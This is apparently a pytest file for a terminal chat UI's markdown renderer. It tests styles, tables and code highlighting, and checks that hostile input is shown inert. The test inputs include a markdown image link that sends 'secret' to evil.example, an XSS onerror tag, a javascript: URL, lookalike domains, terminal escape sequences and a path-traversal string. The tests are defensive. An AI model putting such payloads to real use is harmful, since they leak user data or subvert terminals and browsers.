"""How leaves are drawn: styles, links that do nothing, tables that fit."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gemma_tui.sanitize import sanitize
from gemma_tui.tui.transcript.tables import MIN_COLUMN, shrink
from tests.tui.transcript.drawing import draw, shown


def styles(text: str) -> dict[str, str]:
    return {piece: style for row in draw(text) for piece, style in row.spans}


def test_emphasis() -> None:
    found = styles("**bold** *em* ~~gone~~ `code` ***both***")
    assert found["bold"] == "strong"
    assert found["em"] == "em"
    assert found["gone"] == "strike"
    assert found["code"] == "code"
    assert set(found["both"].split()) == {"strong", "em"}


def test_links_show_where_they_lead() -> None:
    assert shown("[a](http://x.example/b)") == ["a (http://x.example/b)"]
    assert styles("[a](http://x.example/b)")["a"] == "link"
    assert shown("<http://x.example/>") == ["http://x.example/"]
    assert shown("[http://a.b](http://c.d)") == ["http://a.b (http://c.d)"]


def test_addresses_that_read_like_others_are_seen() -> None:
    assert shown("<http://\u0430pple.com>") == ["http://\u0430pple.com (http://xn--pple-43d.com)"]
    assert shown("[a](http://b.example/\u202egnp.exe)") == ["a (http://b.example/%E2%80%AEgnp.exe)"]


@pytest.mark.parametrize(
    ("text", "row"),
    [
        (
            "![a cat](https://evil.example/?d=secret)",
            "[image: a cat] (https://evil.example/?d=secret)",
        ),
        ("<img src=x onerror=y>", "<img src=x onerror=y>"),
        ("[x](javascript:alert(1))", "[x](javascript:alert(1))"),
        ("a [/b] [@click=app.quit]x[/]", "a [/b] [@click=app.quit]x[/]"),
        ("&#27;]0;title&#7;", "\ufffd]0;title\ufffd"),
        ("a&#10;b", "a b"),
        ("\x1b[2J", "␛[2J"),
    ],
)
def test_nothing_is_interpreted_that_could_act(text: str, row: str) -> None:
    assert shown(text) == [row]


def test_code_is_highlighted_and_labelled() -> None:
    rows = draw("```python\nreturn 'x'  # why\n```")
    assert rows[0].text == " python"
    found = dict(rows[1].spans)
    assert found["return"] == "code keyword"
    assert found["# why"] == "code comment"
    assert all(row.fill == "code" for row in rows)


def test_unknown_languages_are_plain() -> None:
    rows = draw("```../../etc/passwd\nx\n```\n\n```klingon\ny\n```")
    assert {style for row in rows for _, style in row.spans if "y" in row.text} == {"code"}


def test_tables_fit_and_wrap() -> None:
    text = "|name|what|\n|:-:|--:|\n|a|" + "long words " * 8 + "|\n|b|**x**|"
    for width in (80, 40, 24):
        rows = draw(text, width)
        assert all(len(row.text) <= width for row in rows)
        assert "".join(row.text for row in rows).count("words") == 8


def test_a_table_too_wide_for_the_screen_is_text() -> None:
    assert shown("|a|b|c|d|\n|-|-|-|-|\n|1|2|3|4|", 15) == ["a │ b │ c │ d", "1 │ 2 │ 3 │ 4"]


def test_late_rows_of_a_table_keep_its_columns() -> None:
    rows = shown("|a|b|\n|-|-|\n" + "|x|y|\n" * 60 + "|longer than before|y|\n")
    assert len({row.index("┼" if "┼" in row else "│") for row in rows}) == 1
    assert "longerthanbefore" in "".join(row.split("│")[0].strip() for row in rows)


@given(st.lists(st.integers(MIN_COLUMN, 200), min_size=1, max_size=12), st.integers(0, 400))
def test_shrink(natural: list[int], room: int) -> None:
    widths = shrink(natural, room)
    assert all(MIN_COLUMN <= w <= n for w, n in zip(widths, natural, strict=True))
    assert sum(widths) == min(sum(natural), max(room, MIN_COLUMN * len(natural)))


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300), st.integers(1, 30))
def test_any_text_is_drawn_harmless(text: str, width: int) -> None:
    for row in draw(text, width):
        assert "\n" not in row.text
        assert "\t" not in row.text
        assert sanitize(row.text) == row.text
